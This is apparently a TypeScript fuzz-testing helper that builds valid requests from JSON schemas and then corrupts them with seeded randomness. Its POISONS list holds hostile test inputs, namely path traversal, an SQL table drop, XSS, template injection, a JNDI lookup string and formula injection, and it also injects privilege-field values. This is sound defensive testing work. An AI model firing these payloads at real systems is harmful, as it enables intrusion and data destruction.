/** A generator of requests from JSON schemas: good ones, then spoilt. Seeded, so that a failure is found again. */
export type Schema = {
  type?: string | string[]
  enum?: unknown[]
  const?: unknown
  anyOf?: Schema[]
  oneOf?: Schema[]
  allOf?: Schema[]
  properties?: Record<string, Schema>
  required?: string[]
  items?: Schema
  pattern?: string
  format?: string
  minLength?: number
  minimum?: number
  minItems?: number
  default?: unknown
  $ref?: string
}

export function createAlea(graine: number) {
  let etat = graine >>> 0
  const nombre = () => {
    etat = (etat + 0x6d2b79f5) >>> 0
    let t = Math.imul(etat ^ (etat >>> 15), etat | 1)
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61)
    return ((t ^ (t >>> 14)) >>> 0) / 4_294_967_296
  }
  return { nombre, choix: <T>(liste: readonly T[]): T => liste[Math.floor(nombre() * liste.length)]! }
}
export type Alea = ReturnType<typeof createAlea>

const UUID = '01890a5d-ac96-774b-bcce-b302099a8057'
const PAR_MOTIF: [RegExp, string][] = [
  [/8\]\[0-9a-f\]|\[0-9a-f\]\{8\}/, UUID],
  [/\\d\{4\}-\(0|\^\\d\{4\}-\\d\{2\}\$/, '2025-11'],
  [/\\d\{4\}-\\d\{2\}-\\d\{2\}/, '2025-11-15'],
  [/\\d\{14\}/, '21400002800018'],
  [/\\d\{9\}/, '214000028'],
]

/** Shapes that a schema cannot write (a day that exists, a key): by the name of the field. */
const PAR_NOM: [RegExp, string][] = [
  [/mois$|^effet$/i, '2025-11'],
  [/^(depuis|jusqua|entree|sortie|terme|naissance|jour|echeance|le|date.*|.*Date|.*Le)$/, '2025-11-15'],
  [/(^i|I)d$|Id$/, UUID],
  [/^annee$/, '2025'],
  [/^siret$/, '21400002800018'],
  [/^siren$/, '214000028'],
  [/^iban$/, 'FR7630006000011234567890189'],
  [/^motif$/, 'Un motif d’une phrase.'],
]

/** A value that this schema accepts, as far as a short generator can tell. */
export function exempleOf(s: Schema, a: Alea, nomChamp = ''): unknown {
  if (s.const !== undefined) return s.const
  if (s.enum) return a.choix(s.enum)
  const choix = s.anyOf ?? s.oneOf
  if (choix) return exempleOf(a.choix(choix), a, nomChamp)
  if (s.allOf) return Object.assign({}, ...s.allOf.map((x) => exempleOf(x, a) as object))
  const type = Array.isArray(s.type) ? s.type[0] : s.type
  if (type === 'object' || s.properties)
    return Object.fromEntries(
      Object.entries(s.properties ?? {})
        .filter(([nom]) => s.required?.includes(nom) || a.nombre() < 0.5)
        .map(([nom, p]) => [nom, exempleOf(p, a, nom)]),
    )
  if (type === 'array') return Array.from({ length: s.minItems ?? 1 }, () => exempleOf(s.items ?? {}, a, nomChamp))
  if (type === 'integer' || type === 'number') return Math.max(s.minimum ?? 1, 1)
  if (type === 'boolean') return a.nombre() < 0.5
  if (type === 'null') return null
  if (s.format === 'email') return 'essai@exemple.example'
  const parNom = PAR_NOM.find(([m]) => m.test(nomChamp))
  const motif = s.pattern
  if (!motif && parNom) return parNom[1]
  if (motif) return PAR_MOTIF.find(([m]) => m.test(motif))?.[1] ?? '1'
  return 'essai'.padEnd(s.minLength ?? 0, 'x')
}

const POISONS: readonly unknown[] = [
  null,
  '',
  ' ',
  '\0',
  '\ud800',
  '../../../etc/passwd',
  '..%2f..%2fcle-maitre',
  "'; drop table app.acces_compte; --",
  '<script>alert(1)</script>',
  '{{7*7}}',
  '$'.concat('{jndi:ldap://exemple.example/a}'),
  '=cmd|calc',
  '-1',
  '1e309',
  '9'.repeat(400),
  '99999999999999999999',
  '0000-00-00',
  '2025-02-30',
  '9999-12',
  '2025-13',
  '+012345-01-01',
  '00000000-0000-0000-0000-000000000000',
  UUID,
  UUID.toUpperCase(),
  'é'.repeat(5_000),
  '\u202e\u200b',
  -1,
  0,
  2 ** 53,
  1e308,
  Number.MAX_SAFE_INTEGER,
  0.1,
  true,
  [],
  {},
  [[[[[[]]]]]],
  { __proto__: null, constructor: 1, toString: 'x' },
  Array.from({ length: 2_000 }, () => 'x'),
]

/** The same value, spoilt somewhere. */
export function abimer(v: unknown, a: Alea): unknown {
  if (a.nombre() < 0.25 || typeof v !== 'object' || v === null) return a.choix(POISONS)
  if (Array.isArray(v)) return a.nombre() < 0.5 ? [...v, a.choix(POISONS)] : v.map((x) => abimer(x, a))
  const cles = Object.keys(v)
  const copie: Record<string, unknown> = { ...v }
  if (cles.length === 0 || a.nombre() < 0.1)
    copie[a.choix(['organisme_id', 'organismeId', 'droits', 'role', 'id'])] = UUID
  else {
    const cle = a.choix(cles)
    if (a.nombre() < 0.2) delete copie[cle]
    else copie[cle] = abimer(copie[cle], a)
  }
  return copie
}

export const texteHostile = (a: Alea): string => {
  const v = a.choix(POISONS)
  return typeof v === 'string' ? v : JSON.stringify(v)
}
